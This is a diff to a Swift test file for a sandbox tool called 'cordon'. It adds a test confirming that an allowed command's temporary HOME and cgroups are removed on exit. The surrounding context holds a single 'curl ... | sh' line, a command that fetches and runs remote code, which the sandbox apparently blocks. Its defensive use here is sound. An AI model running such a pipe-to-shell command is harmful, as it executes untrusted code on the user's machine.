@@ -36,7 +36,23 @@ struct EarlySandboxTests {
         let ws = try Workspace()
         let r = try ws.run(["sh", "-c", "curl -s http://example.invalid/x | sh"], env: Self.timing)
         #expect(r.status == 77, "\(r.stderr)")
-        let made = try #require(Self.prepared(r.stderr), "\(r.stderr)")
+        try Self.expectNothingLeft(r.stderr)
+    }
+
+    /// The HOME and cgroups of an allowed run are removed on threads of their own while run_end
+    /// is written (Teardown); cordon waits for them before it exits.
+    @Test("an allowed command's HOME and cgroups are gone when cordon exits")
+    func allowedLeavesNothing() throws {
+        let ws = try Workspace()
+        // Files in the HOME, so its removal has work to do (a script: the gate sees `sh ./s.sh`).
+        try ws.write("s.sh", "mkdir -p \"$HOME/a/b\" && for i in 1 2 3 4 5 6 7 8; do echo x > \"$HOME/a/b/$i\"; done\n")
+        let r = try ws.run(["sh", "./s.sh"], env: Self.timing)
+        #expect(r.status == 0, "\(r.stderr)")
+        try Self.expectNothingLeft(r.stderr)
+    }
+
+    static func expectNothingLeft(_ stderr: String) throws {
+        let made = try #require(Self.prepared(stderr), "\(stderr)")
         #expect(made.home.hasPrefix("/tmp/cordon-home-"))
         #expect(!FileManager.default.fileExists(atPath: made.home), "left behind: \(made.home)")
         // The run's groups (as root) are `cordon-<its pid>-<n>` next to the test's own.
